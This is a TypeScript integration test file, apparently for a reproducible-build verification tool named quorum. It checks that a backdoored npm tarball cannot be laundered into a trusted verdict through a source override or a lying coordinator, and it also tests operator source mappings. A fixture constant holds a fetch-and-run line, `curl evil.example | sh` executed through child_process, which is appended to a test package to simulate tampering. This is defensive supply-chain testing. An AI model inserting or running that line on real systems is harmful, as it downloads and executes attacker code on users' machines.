import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { readFile, rename, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { execa } from 'execa';
import type { PackageView, ReleaseView } from '@quorum/core';
import { makeGitPackage, packageJson } from '../fixtures/git-package.js';
import { publishFromGit } from '../fixtures/publish.js';
import { Farm, ROOT } from './farm.js';

const QUORUM = join(ROOT, 'packages/cli/bin/quorum.js');
const PURL = 'pkg:npm/laundry@1.0.0';
const INDEX = `'use strict';\nmodule.exports = (a, b) => a + b;\n`;
const BACKDOOR = `require('child_process').exec('curl evil.example | sh');\n`;

interface Attestations {
  releaseId: string;
  verdict: string | null;
  answer: { verdict: string; releaseId: string; alarms: { releaseId: string }[]; overrideReleases: number };
  builders: { rebuildId: string; bundle: unknown }[];
  vsa: unknown;
}

/**
 * The attack of issue "verdict laundering by source override": the published tarball carries a
 * backdoor that is not in the package's repository; an attacker submits the purl with the source
 * overridden to a repository of their own that does contain it.
 */
describe('a source override cannot launder a backdoored tarball', () => {
  const farm = new Farm({ workers: 3, builders: 3, quorum: 2 });
  let canonical: ReleaseView;
  let override: ReleaseView;
  let tarball: string;
  let trustFile: string;
  let evilRepo: string;
  let ownRepoDir: string;
  beforeAll(async () => {
    await farm.start();
    const own = await makeGitPackage(join(farm.dir, 'src/laundry'), { 'package.json': packageJson('laundry', '1.0.0'), 'index.js': INDEX }, 'v1.0.0');
    ownRepoDir = own.dir;
    // the attacker's repository holds exactly what the backdoored tarball holds
    const evil = await makeGitPackage(join(farm.dir, 'src/laundry-evil'), { 'package.json': packageJson('laundry', '1.0.0'), 'index.js': INDEX + BACKDOOR }, 'v1.0.0');
    evilRepo = evil.url;
    const published = await publishFromGit(farm.registry, own, { how: 'image', tamper: { file: 'index.js', append: BACKDOOR } });
    tarball = join(farm.dir, 'laundry-1.0.0.tgz');
    await writeFile(tarball, published.tarball);
    canonical = await farm.submitAndDecide({ purl: PURL });
    trustFile = join(farm.dir, 'trust.json');
    await execa('node', [QUORUM, 'keys', 'export', '--server', farm.url, '--out', trustFile]);
  }, 300_000);
  afterAll(() => farm.stop(), 60_000);

  const verify = (...args: string[]) => execa('node', [QUORUM, 'verify', PURL, '--trust', trustFile, '--server', farm.url, '--registry', farm.registry.url, '--json', ...args], { reject: false });

  it("calls the backdoored tarball mismatch when built from the package's own source", () => {
    expect(canonical.verdict?.verdict).toBe('mismatch');
    expect(canonical.canonical).toBe(true);
    expect(canonical.source).toMatchObject({ origin: 'registry', ref: 'v1.0.0' });
  });

  it('refuses a source override from a submitter without a token (401), with a message saying why', async () => {
    const res = await farm.request('POST', '/v1/releases', { purl: PURL, repo: evilRepo, ref: 'v1.0.0' });
    expect(res.status).toBe(401);
    expect(((await res.json()) as { error: { message: string } }).error.message).toMatch(/source override \(repo, ref\) needs a submit token/);
    const forged = await farm.request('POST', '/v1/releases', { purl: PURL, repo: evilRepo }, { authorization: 'Bearer qs_guessed' });
    expect(forged.status).toBe(401);
  });

  it('records an authenticated override as an override verdict that never answers for the purl', async () => {
    override = await farm.submitAndDecide({ purl: PURL, repo: evilRepo, ref: 'v1.0.0' });
    // the attacker's source does reproduce the backdoored tarball...
    expect(['reproducible', 'equivalent']).toContain(override.verdict?.verdict);
    // ...and that is all it is: an override, labelled, with who submitted it
    expect(override).toMatchObject({ canonical: false, submittedBy: 'maintainer', source: { origin: 'override', repo: evilRepo } });
    const att = await farm.json<Attestations>('GET', `/v1/attestations/${encodeURIComponent(PURL)}`);
    expect(att.releaseId).toBe(canonical.id);
    expect(att.verdict).toBe('mismatch');
    expect(att.answer).toMatchObject({ verdict: 'mismatch', releaseId: canonical.id, overrideReleases: 1 });
    expect(att.answer.alarms.map((a) => a.releaseId)).toEqual([canonical.id]);
    const pkg = await farm.json<PackageView>('GET', `/v1/packages/${encodeURIComponent(PURL)}`);
    expect(pkg.answers[0]).toMatchObject({ verdict: 'mismatch', releaseId: canonical.id });
    // the newest release is the override, and it is still listed (labelled) for auditors
    expect(pkg.releases[0]).toMatchObject({ id: override.id, canonical: false });
    // its signed verdict is about the purl *with that source*, never the plain purl
    const { ctx } = farm.coordinator;
    const vsaBundle = JSON.parse((await ctx.blobs.read(ctx.store.latestVsa(override.id)!))!.toString('utf8')) as { dsseEnvelope: { payload: string } };
    const vsa = JSON.parse(Buffer.from(vsaBundle.dsseEnvelope.payload, 'base64').toString('utf8')) as { predicate: { resourceUri: string; quorum: { source: { origin: string } } } };
    expect(vsa.predicate.resourceUri).not.toBe(PURL);
    expect(vsa.predicate.resourceUri).toMatch(/^pkg:npm\/laundry@1\.0\.0\?vcs_url=git%2Bfile/);
    expect(vsa.predicate.quorum.source.origin).toBe('override');
  });

  it('makes quorum status report the mismatch (exit 2) and label the override', async () => {
    const res = await execa('node', [QUORUM, 'status', PURL, '--all', '--server', farm.url], { reject: false });
    expect(res.exitCode).toBe(2);
    expect(res.stdout).toMatch(/^answer: +pkg:npm\/laundry@1\.0\.0: mismatch$/m);
    expect(res.stdout).toMatch(/^ALARM: +mismatch for artifact sha256/m);
    expect(res.stdout).toMatch(/^OVERRIDE: +built from a submitter's source \(submitted by maintainer\)/m);
  });

  it('makes quorum verify refuse the backdoored tarball (exit 6)', async () => {
    const res = await verify('--artifact', tarball);
    expect(res.exitCode, res.stderr).toBe(6);
    expect(JSON.parse(res.stdout)).toMatchObject({ verified: false, counted: 0, source: { from: 'registry', repo: expect.stringContaining('src/laundry') } });
  });

  it('counts no override statement even when a lying coordinator serves them as the attestation', async () => {
    // a compromised coordinator answers the purl with the override release's signed bundles
    const bundles = await Promise.all(override.rebuilds.map(async (r) => ({ rebuildId: r.id, bundle: await farm.json<unknown>('GET', `/v1/rebuilds/${r.id}/bundle`) })));
    const liar: Server = createServer((req, res) => {
      if (req.url === `/v1/attestations/${encodeURIComponent(PURL)}`) {
        res.writeHead(200, { 'content-type': 'application/json' });
        res.end(JSON.stringify({ purl: PURL, releaseId: override.id, verdict: 'reproducible', published: override.published, vsa: null, builders: bundles }));
      } else {
        res.writeHead(404, { 'content-type': 'application/json' });
        res.end('{"error":{"code":"not-found","message":"no"}}');
      }
    });
    await new Promise<void>((r) => liar.listen(0, '127.0.0.1', () => r()));
    try {
      const url = `http://127.0.0.1:${(liar.address() as AddressInfo).port}`;
      const fooled = await execa('node', [QUORUM, 'verify', PURL, '--trust', trustFile, '--server', url, '--registry', farm.registry.url, '--artifact', tarball, '--json'], { reject: false });
      expect(fooled.exitCode).toBe(6);
      const out = JSON.parse(fooled.stdout) as { counted: number; builders: { problem?: string }[] };
      expect(out.counted).toBe(0);
      for (const b of out.builders) expect(b.problem).toMatch(/override source/);
      // a consumer may accept that repository explicitly, and is told so
      const allowed = await execa('node', [QUORUM, 'verify', PURL, '--trust', trustFile, '--server', url, '--registry', farm.registry.url, '--artifact', tarball, '--allow-source', evilRepo], {
        reject: false,
      });
      expect(allowed.exitCode).toBe(0);
      expect(allowed.stderr).toContain('--allow-source');
      expect(allowed.stdout).toMatch(/this is not a verdict about the package's own source/);
    } finally {
      await new Promise<void>((r) => liar.close(() => r()));
    }
  });

  it("keeps the alarm in view when a later verdict from the package's own source only fails", async () => {
    // the package's repository disappears: a new canonical release cannot be built
    await rename(ownRepoDir, `${ownRepoDir}.gone`);
    try {
      const later = await farm.submitAndDecide({ purl: PURL });
      expect(later.verdict?.verdict).toBe('failed');
      const att = await farm.json<Attestations>('GET', `/v1/attestations/${encodeURIComponent(PURL)}`);
      expect(att.answer.verdict).toBe('mismatch');
      expect(att.releaseId).toBe(canonical.id);
    } finally {
      await rename(`${ownRepoDir}.gone`, ownRepoDir);
    }
  });
});

/**
 * A package whose registry entry declares no source: an operator records where it lives, which then
 * counts as the package's own source, shown with who recorded it, and accepted by `verify` only
 * from a trust file that pins the mapping.
 */
describe("an operator's source mapping", () => {
  const farm = new Farm({ workers: 2, builders: 2, quorum: 2 });
  const purl = 'pkg:npm/unmapped@1.0.0';
  let repo: string;
  beforeAll(async () => {
    await farm.start();
    const pkg = await makeGitPackage(join(farm.dir, 'src/unmapped'), { 'package.json': packageJson('unmapped', '1.0.0'), 'index.js': INDEX }, 'v1.0.0');
    repo = pkg.url;
    await publishFromGit(farm.registry, pkg, { how: 'image', manifest: { repository: undefined } });
  }, 180_000);
  afterAll(() => farm.stop(), 60_000);

  it('turns a release without a declared source into a canonical one, recorded with who mapped it', async () => {
    const before = await farm.submitAndDecide({ purl });
    expect(before.verdict?.reason).toMatch(/^source-not-found: .*declares no usable repository/);
    const mapping = await farm.admin<{ packagePurl: string; by: string }>('PUT', '/v1/admin/source-mappings', { purl: 'pkg:npm/unmapped', repo, by: 'alice', note: 'confirmed with the maintainer' });
    expect(mapping).toMatchObject({ packagePurl: 'pkg:npm/unmapped', by: 'alice' });
    expect(await farm.json<unknown[]>('GET', '/v1/source-mappings')).toEqual([expect.objectContaining({ packagePurl: 'pkg:npm/unmapped', repo, by: 'alice' })]);
    const after = await farm.submitAndDecide({ purl });
    expect(after.verdict?.verdict).toBe('reproducible');
    expect(after).toMatchObject({ canonical: true, source: { origin: 'mapping', repo, mapping: { by: 'alice' } } });
    const att = await farm.json<Attestations>('GET', `/v1/attestations/${encodeURIComponent(purl)}`);
    expect(att.releaseId).toBe(after.id);
  });

  it('lets quorum verify count a mapped source only from a trust file that pins the mapping', async () => {
    const pinned = join(farm.dir, 'trust-with-mapping.json');
    await execa('node', [QUORUM, 'keys', 'export', '--server', farm.url, '--out', pinned]);
    const ok = await execa('node', [QUORUM, 'verify', purl, '--trust', pinned, '--server', farm.url, '--registry', farm.registry.url, '--json'], { reject: false });
    expect(ok.exitCode, ok.stderr).toBe(0);
    expect(JSON.parse(ok.stdout)).toMatchObject({ verified: true, source: { from: 'mapping', repo, mappedBy: 'alice' } });
    // the same keys without the mapping: nothing names the package's own source
    const { sourceMappings: _m, ...withoutMapping } = JSON.parse(await readFile(pinned, 'utf8')) as Record<string, unknown>;
    const stale = join(farm.dir, 'trust-without-mapping.json');
    await writeFile(stale, JSON.stringify(withoutMapping));
    const refused = await execa('node', [QUORUM, 'verify', purl, '--trust', stale, '--server', farm.url, '--registry', farm.registry.url, '--json'], { reject: false });
    expect(refused.exitCode).toBe(6);
    expect(JSON.parse(refused.stdout).source.from).toBe('none');
  });
});
